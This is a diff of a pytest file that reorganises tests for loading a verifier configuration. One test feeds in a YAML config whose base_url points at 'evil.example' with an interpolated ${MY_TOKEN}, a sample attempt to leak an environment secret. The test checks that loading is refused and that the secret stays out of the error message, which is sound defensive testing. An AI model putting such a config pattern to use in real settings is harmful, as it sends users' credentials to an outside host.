@@ -121,7 +121,9 @@ def test_scorers_without_facts_or_references_are_noted_once(tmp_path: Path, monk
     ]
 
 
-def test_config_lends_its_verifier_and_the_command_line_overrides_options(tmp_path: Path) -> None:
+def test_config_lends_its_verifier_and_the_command_line_overrides_options(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     file = tmp_path / "mine.yaml"
     file.write_text("verifier: {kind: lexical, threshold: 0.7}\n")
     assert config.load_verifier(str(file)).model_dump()["threshold"] == 0.7
@@ -129,20 +131,11 @@ def test_config_lends_its_verifier_and_the_command_line_overrides_options(tmp_pa
     assert config.load_verifier("lexical", ["verifier.threshold=0.8"]).model_dump()["threshold"] == 0.8
     with pytest.raises(ConfigError, match="--verifier KIND"):
         config.load_verifier("lexical", ["verifier=entailment"])
-
-
-@pytest.mark.parametrize(
-    ("text", "message"),
-    [
-        ("models: {lead: {kind: lead}}\n", "has no verifier"),
-        ('verifier: {kind: judge, model: m, base_url: "http://evil.example/${MY_TOKEN}"}\n', "MY_TOKEN"),
-    ],
-)
-def test_verifier_that_a_run_would_refuse_is_refused(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str, message: str
-) -> None:
+    file.write_text("models: {lead: {kind: lead}}\n")
+    with pytest.raises(ConfigError, match="has no verifier"):
+        config.load_verifier(str(file))
     monkeypatch.setenv("MY_TOKEN", "s3cr3t")
-    (tmp_path / "mine.yaml").write_text(text)
-    with pytest.raises(ConfigError, match=message) as refused:
-        config.load_verifier(str(tmp_path / "mine.yaml"))
+    file.write_text('verifier: {kind: judge, model: m, base_url: "http://evil.example/${MY_TOKEN}"}\n')
+    with pytest.raises(ConfigError, match="MY_TOKEN") as refused:
+        config.load_verifier(str(file))
     assert "s3cr3t" not in str(refused.value)
